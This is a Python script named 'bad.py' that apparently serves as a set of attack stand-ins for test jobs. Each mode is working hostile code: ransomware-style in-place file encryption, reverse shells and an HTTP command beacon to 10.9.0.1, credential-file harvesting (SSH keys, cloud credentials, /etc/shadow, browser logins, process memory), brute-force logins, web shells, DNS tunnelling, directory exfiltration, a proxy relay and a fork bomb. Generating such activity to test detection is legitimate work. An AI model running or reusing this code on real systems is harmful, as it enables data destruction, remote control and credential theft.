# bad.py WHAT ...: stand-ins in Python; every job that uses one draws its own numbers.
import os, sys, random, time, socket, threading, hashlib, subprocess, re

w = sys.argv[1]
a = sys.argv[2:]
r = random.Random()


def files(d):
    for p, _, fs in os.walk(d):
        for f in fs:
            yield os.path.join(p, f)


def xor(b, k):
    return (
        int.from_bytes(b, 'big') ^ int.from_bytes((k * (len(b) // len(k) + 1))[: len(b)], 'big')
    ).to_bytes(len(b), 'big')


if w == 'encrypt':  # DIR STYLE PAUSE
    d, style, pause = a[0], a[1], float(a[2])
    if style == 'aes':
        from cryptography.fernet import Fernet

        box = Fernet(Fernet.generate_key())

    def one(p):
        try:
            if style == 'stream':
                with open(p, 'rb') as f, open(p + '.enc', 'wb') as g:
                    while b := f.read(65536):
                        g.write(xor(b, hashlib.sha256(b[:9]).digest()))
                os.remove(p)
                os.rename(p + '.enc', p)
            elif style == 'place':
                with open(p, 'r+b') as f:
                    b = f.read()
                    f.seek(0)
                    f.write(xor(b, os.urandom(64)))
                    f.truncate()
                    f.flush()
                    r.random() < 0.5 and os.fsync(f.fileno())
                os.rename(p, p + '.xx')
                os.rename(p + '.xx', p)
            elif style == 'map':
                import mmap

                with open(p, 'r+b') as f, mmap.mmap(f.fileno(), 0) as m:
                    m[:] = xor(m[:], os.urandom(32))
                    m.flush()
                os.rename(p, p + '.xx')
                os.rename(p + '.xx', p)
            else:
                b = open(p, 'rb').read()
                open(p + '.enc', 'wb').write(
                    box.encrypt(b[:200000])
                    if style == 'aes'
                    else xor(b, hashlib.shake_256(p.encode()).digest(64))
                )
                os.unlink(p)
                os.rename(p + '.enc', p)
        except (OSError, ValueError):
            pass
        if pause:
            time.sleep(pause * r.random())

    if style == 'pool':
        from concurrent.futures import ThreadPoolExecutor

        while True:
            with ThreadPoolExecutor(4) as e:
                list(e.map(one, list(files(d))))
    while True:
        for p in list(files(d)):
            one(p)
elif w == 'shell':  # PORT STYLE
    s = socket.create_connection(('10.9.0.1', int(a[0])))
    if a[1] == 'pty':
        import pty

        [os.dup2(s.fileno(), i) for i in (0, 1, 2)]
        pty.spawn(r.choice((['/bin/bash'], ['/bin/sh'], ['/bin/bash', '-i'])))
    elif a[1] == 'dup':
        [os.dup2(s.fileno(), i) for i in (0, 1, 2)]
        subprocess.call(['/bin/sh', '-i'])
    else:
        while b := s.recv(4096):
            s.sendall(subprocess.run(b.decode(), shell=True, capture_output=True).stdout or b'\n')
elif w == 'beacon':  # PORT PAUSE: asks by HTTP what to do
    import urllib.request

    while True:
        try:
            c = urllib.request.urlopen(f'http://10.9.0.1:{a[0]}/task').read().decode()
            o = os.popen(c).read()
            urllib.request.urlopen(f'http://10.9.0.1:{a[0]}/out', data=o.encode() or b'-').read()
        except OSError:
            pass
        time.sleep(float(a[1]) * r.random())
elif w == 'mine':  # THREADS PORT STYLE
    s = socket.create_connection(('10.9.0.1', int(a[1])))
    s.sendall(b'{"id":1,"method":"login"}\n')
    if a[2] == 'process':
        import multiprocessing

        def work(k):
            while True:
                k = hashlib.sha256(str(k).encode()).hexdigest()

    else:

        def work(k):
            b = bytearray(os.urandom(200000))
            while True:
                h = (
                    hashlib.scrypt(bytes(b[:80]), salt=b'x', n=1024, r=1, p=1)
                    if a[2] == 'scrypt'
                    else hashlib.sha512(b).digest()
                )
                b[:64] = h[:64]

    for k in range(int(a[0])):
        (multiprocessing.Process if a[2] == 'process' else threading.Thread)(
            target=work, args=(k,), daemon=True
        ).start()
    while s.recv(4096):
        s.sendall(b'{"id":2,"method":"submit"}\n')
elif w == 'scan':  # STYLE PAUSE
    hosts = [f'10.9.0.{i}' for i in range(1, 250)]
    ports = list(range(1, 1500))
    pause = float(a[1])
    if a[0] == 'shuffled':
        r.shuffle(ports)

    def probe(h, p):
        s = socket.socket()
        s.settimeout(0.3)
        x = s.connect_ex((h, p))
        s.close()
        if pause:
            time.sleep(pause)
        return x

    if a[0] == 'async':
        import asyncio

        async def main():
            q = asyncio.Semaphore(200)

            async def one(h, p):
                async with q:
                    try:
                        _, w = await asyncio.wait_for(asyncio.open_connection(h, p), 0.5)
                        w.close()
                    except (OSError, asyncio.TimeoutError):
                        pass

            for h in hosts:
                await asyncio.gather(*(one(h, p) for p in ports[:400]))

        while True:
            asyncio.run(main())
    elif a[0] == 'threads':
        from concurrent.futures import ThreadPoolExecutor

        with ThreadPoolExecutor(20) as e:
            while True:
                [list(e.map(lambda p: probe(h, p), ports)) for h in hosts]
    elif a[0] == 'hosts':
        while True:
            for p in (22, 80, 443, 445, 3306, 6379, 8080):
                [probe(h, p) for h in hosts]
    else:
        while True:
            [probe(h, p) for h in hosts for p in ports]
elif w == 'guess':  # STYLE PORT PAUSE
    import itertools

    for i in itertools.count():
        try:
            if a[0] == 'ssh':
                import paramiko

                c = paramiko.SSHClient()
                c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
                c.connect(
                    '127.0.0.1', int(a[1]), 'dev', f'pw{i}', allow_agent=False, look_for_keys=False
                )
            elif a[0] == 'ftp':
                import ftplib

                f = ftplib.FTP()
                f.connect('127.0.0.1', int(a[1]))
                f.login('admin', f'pw{i}')
            elif a[0] == 'form':
                import requests

                requests.post(
                    f'http://127.0.0.1:{a[1]}/login', data={'user': 'admin', 'password': f'pw{i}'}
                )
            elif a[0] == 'redis':
                s = socket.create_connection(('127.0.0.1', int(a[1])))
                [s.sendall(f'AUTH pw{i}{k}\r\n'.encode()) or s.recv(200) for k in range(20)]
                s.close()
            else:
                import urllib.request, base64

                urllib.request.urlopen(
                    urllib.request.Request(
                        f'http://127.0.0.1:{a[1]}/',
                        headers={
                            'Authorization': 'Basic ' + base64.b64encode(b'admin:%d' % i).decode()
                        },
                    )
                )
        except Exception:
            pass
        time.sleep(float(a[2]))
elif w == 'crawl':  # STYLE DIR
    s = re.compile(rb'password|secret|token|PRIVATE KEY|aws_', re.I)
    while True:
        if a[0] == 'walk':
            for p in files(a[1]):
                try:
                    with open(p, 'rb') as f:
                        s.search(f.read(300000)) and print(p)
                except OSError:
                    pass
        elif a[0] == 'known':
            for h in [os.path.join('/home', x) for x in os.listdir('/home')] + ['/root']:
                for k in (
                    '.ssh/id_rsa',
                    '.ssh/id_ed25519',
                    '.aws/credentials',
                    '.bash_history',
                    '.netrc',
                    '.pgpass',
                    '.docker/config.json',
                    '.kube/config',
                    '.config/gcloud/credentials.db',
                    '.git-credentials',
                    '.mozilla/firefox/a.default/logins.json',
                    '.config/google-chrome/Default/Login Data',
                    '.gnupg/secring.gpg',
                    '.mysql_history',
                ):
                    try:
                        print(len(open(os.path.join(h, k), 'rb').read()))
                    except OSError:
                        pass
            for k in (
                '/etc/shadow',
                '/etc/passwd',
                '/etc/ssh/ssh_host_rsa_key',
                '/etc/mysql/debian.cnf',
            ):
                try:
                    open(k).read()
                except OSError:
                    pass
            time.sleep(r.random() * 0.3)
        else:
            for d in os.listdir('/proc'):
                if not d.isdigit():
                    continue
                for f in ('environ', 'cmdline', 'maps'):
                    try:
                        s.search(open(f'/proc/{d}/{f}', 'rb').read())
                    except OSError:
                        pass
                try:
                    m = open(f'/proc/{d}/maps').read()
                    h = re.search(r'([0-9a-f]+)-([0-9a-f]+) rw-p .*\[(heap|stack)\]', m)
                    with open(f'/proc/{d}/mem', 'rb') as g:
                        g.seek(int(h[1], 16))
                        s.search(g.read(1 << 20))
                except (OSError, TypeError, ValueError, OverflowError):
                    pass
            time.sleep(r.random() * 0.5)
elif w == 'enum':
    C = [
        'id',
        'whoami',
        'uname -a',
        'cat /etc/os-release',
        'ps auxww',
        'ss -anp',
        'mount',
        'df -h',
        'crontab -l',
        'cat /etc/crontab',
        'ls -la /etc/cron*',
        'find /usr -perm -4000 -type f',
        'getcap -r /usr/bin',
        'ls -laR /home',
        'cat /etc/sudoers',
        'sudo -n -l',
        'env',
        'ip a',
        'ip r',
        'cat /etc/passwd',
        'last',
        'w',
        'lsof -nP',
        'dpkg -l',
        'cat /proc/version',
        'grep -r PermitRoot /etc/ssh',
        'find / -xdev -writable -type d -maxdepth 3',
    ]
    while True:
        for c in r.sample(C, len(C)):
            subprocess.run(c, shell=True, capture_output=True, timeout=20)
            time.sleep(r.random() * float(a[0]))
        for p in files('/etc'):
            try:
                os.stat(p)
                os.access(p, os.W_OK)
            except OSError:
                pass
elif w == 'web':  # STYLE PORT
    if a[0] == 'flask':
        from flask import Flask, request

        app = Flask('x')

        @app.route('/x.php', methods=['GET', 'POST'])
        def x():
            return subprocess.getoutput(request.values.get('cmd', 'id'))

        app.run('127.0.0.1', int(a[1]), threaded=bool(r.randrange(2)))
    import http.server, urllib.parse

    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            q = urllib.parse.parse_qs(
                self.path.partition('?')[2]
                or self.rfile.read(int(self.headers.get('content-length', 0))).decode()
            )
            o = os.popen(q['cmd'][0]).read().encode()
            self.send_response(200)
            self.end_headers()
            self.wfile.write(o)

        do_POST = do_GET

    http.server.ThreadingHTTPServer(('127.0.0.1', int(a[1])), H).serve_forever()
elif w == 'dns':  # STYLE PAUSE
    import base64, struct

    while True:
        l = base64.b32encode(os.urandom(90)).decode().strip('=').lower()
        n = f'{l[:50]}.{l[50:100]}.{l[100:]}.t.example'
        if a[0] == 'resolver':
            try:
                socket.getaddrinfo(n, None)
            except OSError:
                pass
        else:
            s = (
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                if a[0] == 'fresh' or 's' not in globals()
                else s
            )
            s.settimeout(1)
            s.sendto(
                os.urandom(2)
                + b'\1\0\0\1\0\0\0\0\0\0'
                + b''.join(bytes([len(x)]) + x.encode() for x in n.split('.'))
                + b'\0\0\x10\0\1',
                ('127.0.0.1', 53),
            )
            try:
                s.recv(4096)
            except OSError:
                pass
        time.sleep(float(a[1]) * r.random())
elif w == 'send':  # STYLE PORT DIR
    import io, zipfile, urllib.request

    while True:
        if a[0] == 'zip':
            b = io.BytesIO()
            z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED)
            [z.write(p) for p in files(a[2])]
            z.close()
            s = socket.create_connection(('10.9.0.1', int(a[1])))
            s.sendall(b.getvalue())
            s.close()
        else:
            for p in files(a[2]):
                b = open(p, 'rb').read()
                if a[0] == 'post':
                    urllib.request.urlopen(
                        f'http://10.9.0.1:{a[1]}/{os.path.basename(p)}', data=b or b'-'
                    ).read()
                else:
                    s = socket.create_connection(('10.9.0.1', int(a[1])))
                    for i in range(0, len(b), 4096):
                        s.sendall(b[i : i + 4096])
                        a[0] == 'slow' and time.sleep(0.02)
                    s.close()
                time.sleep(r.random() * 0.03)
elif w == 'relay':  # STYLE PORT TO
    if a[0] == 'async':
        import asyncio

        async def pump(x, y):
            try:
                while b := await x.read(65536):
                    y.write(b)
                    await y.drain()
            except OSError:
                pass
            y.close()

        async def come(x, y):
            b = await x.read(3)
            y.write(b'\5\0')
            await x.read(10)
            y.write(b'\5\0\0\1\0\0\0\0\0\0')
            p, q = await asyncio.open_connection('10.9.0.1', int(a[2]))
            await asyncio.gather(pump(x, q), pump(p, y))

        async def main():
            await (await asyncio.start_server(come, '127.0.0.1', int(a[1]))).serve_forever()

        asyncio.run(main())
    l = socket.create_server(('127.0.0.1', int(a[1])))
    if a[0] == 'select':
        import select

        peer = {}
        while True:
            for x in select.select([l, *peer], [], [])[0]:
                if x is l:
                    c = l.accept()[0]
                    d = socket.create_connection(('10.9.0.1', int(a[2])))
                    peer[c] = d
                    peer[d] = c
                    continue
                if x not in peer:
                    continue
                try:
                    b = x.recv(65536)
                except OSError:
                    b = b''
                if b:
                    peer[x].sendall(b)
                else:
                    y = peer.pop(x)
                    peer.pop(y)
                    x.close()
                    y.close()

    def pump(x, y):
        try:
            while b := x.recv(65536):
                y.sendall(b)
        except OSError:
            pass
        try:
            y.shutdown(2)
        except OSError:
            pass

    while True:
        c = l.accept()[0]
        d = socket.create_connection(('10.9.0.1', int(a[2])))
        [threading.Thread(target=pump, args=t, daemon=True).start() for t in ((c, d), (d, c))]
elif w == 'storm':  # N PAUSE
    while True:
        for _ in range(int(a[0])):
            if os.fork() == 0:
                time.sleep(0.01)
                os._exit(0)
        time.sleep(float(a[1]))
        try:
            while os.waitpid(-1, os.WNOHANG)[0]:
                pass
        except OSError:
            pass
